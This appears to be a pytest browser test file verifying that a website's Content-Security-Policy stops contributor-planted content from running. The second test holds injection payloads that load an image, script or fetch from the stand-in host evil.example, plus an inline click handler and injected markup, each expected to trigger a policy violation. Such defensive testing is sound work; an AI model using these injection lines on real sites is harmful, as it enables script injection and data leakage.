"""The pages' Content-Security-Policy holds: what a contributor wrote is data, whatever it looks like."""

from __future__ import annotations

import pytest

from tests.website.browser.conftest import PAGES, Look, Witness


@pytest.mark.parametrize("path", PAGES)
def test_nothing_of_what_was_planted_runs(look: Look, path: str) -> None:
    """That there was no error, no dialog and no request to another place is asserted by ``look``."""
    page = look(path)
    page.wait_for_load_state("networkidle")

    scripts = page.evaluate(
        "[...document.scripts].filter((s) => s.type !== 'application/ld+json').map((s) => s.src)"
    )
    assert all("/static/" in script for script in scripts)
    assert page.locator("[style], style").count() == 0
    assert page.evaluate("[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"
                         ".filter((name) => name.startsWith('on'))") == []  # fmt: skip


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x.png'}))",
        "fetch('https://evil.example/').catch(() => null)",
        "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
        "document.body.innerHTML = '<b>x</b>'",
    ],
    ids=["image", "request", "script", "handler", "markup"],
)
def test_the_policy_is_in_force(look: Look, witness: Witness, attack: str) -> None:
    page = look("paper/evil/")
    violated = page.evaluate(f"""new Promise((done) => {{
        document.addEventListener("securitypolicyviolation", () => done(true));
        setTimeout(() => done(false), 5000);
        try {{ {attack} }} catch {{ }}
    }})""")

    assert violated
    assert page.evaluate("window.ran") is None
    assert not any(seen.startswith("dialog") for seen in witness.seen)
    witness.seen.clear()
